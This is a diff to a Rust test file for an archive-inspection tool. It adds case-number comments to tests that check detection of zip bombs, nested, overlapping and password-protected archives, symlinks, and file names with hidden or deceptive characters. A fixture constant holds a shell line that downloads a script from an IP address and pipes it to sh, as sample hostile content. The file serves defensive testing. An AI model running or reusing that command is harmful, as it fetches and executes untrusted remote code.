@@ -26,6 +26,7 @@ fn check(what: &str, path: &str, bytes: &[u8]) {
 
 const SCRIPT: &[u8] = b"#!/bin/sh\ncurl http://203.0.113.7/x | sh\n";
 
+// case 31
 #[test]
 fn a_bomb_is_not_unpacked() {
     let blanks = vec![b' '; 2 << 20];
@@ -40,6 +41,7 @@ fn a_bomb_is_not_unpacked() {
     check("many members", "a.zip", &made::zipped(&many));
 }
 
+// case 31
 #[test]
 fn an_archive_within_an_archive_is_told() {
     let inner = made::zipped(&[("setup.sh", SCRIPT)]);
@@ -50,6 +52,7 @@ fn an_archive_within_an_archive_is_told() {
     check("gzip in gzip", "a.gz", &packed);
 }
 
+// case 31
 #[test]
 fn members_that_overlap_are_told() {
     // Two entries of the directory point to the same local header.
@@ -62,6 +65,7 @@ fn members_that_overlap_are_told() {
     check("overlap", "a.zip", &bytes);
 }
 
+// case 32
 #[test]
 fn what_stands_around_an_archive_is_told() {
     let zip = made::zipped(&[("notes.txt", b"hello")]);
@@ -73,6 +77,7 @@ fn what_stands_around_an_archive_is_told() {
     check("a second stream", "a.gz", &members);
 }
 
+// case 33
 #[test]
 fn what_needs_a_password_is_told() {
     check("zip", "a.zip", &made::locked(&[("setup.sh", SCRIPT)]));
@@ -80,6 +85,7 @@ fn what_needs_a_password_is_told() {
     check("rar", "a.rar", b"Rar!\x1a\x07\x01\0rest");
 }
 
+// case 23
 #[test]
 fn names_that_deceive_are_told() {
     for name in [
@@ -94,6 +100,7 @@ fn names_that_deceive_are_told() {
     }
 }
 
+// case 24, 35
 #[test]
 fn members_that_are_no_files_are_told() {
     use tar::EntryType;
@@ -104,6 +111,7 @@ fn members_that_are_no_files_are_told() {
     check("a link", "a.tar", &link);
 }
 
+// case 34
 #[test]
 fn names_with_hidden_characters_are_told() {
     for name in ["a\u{1b}[2J.txt", "a\n.txt", "a\u{202e}txt.sh"] {
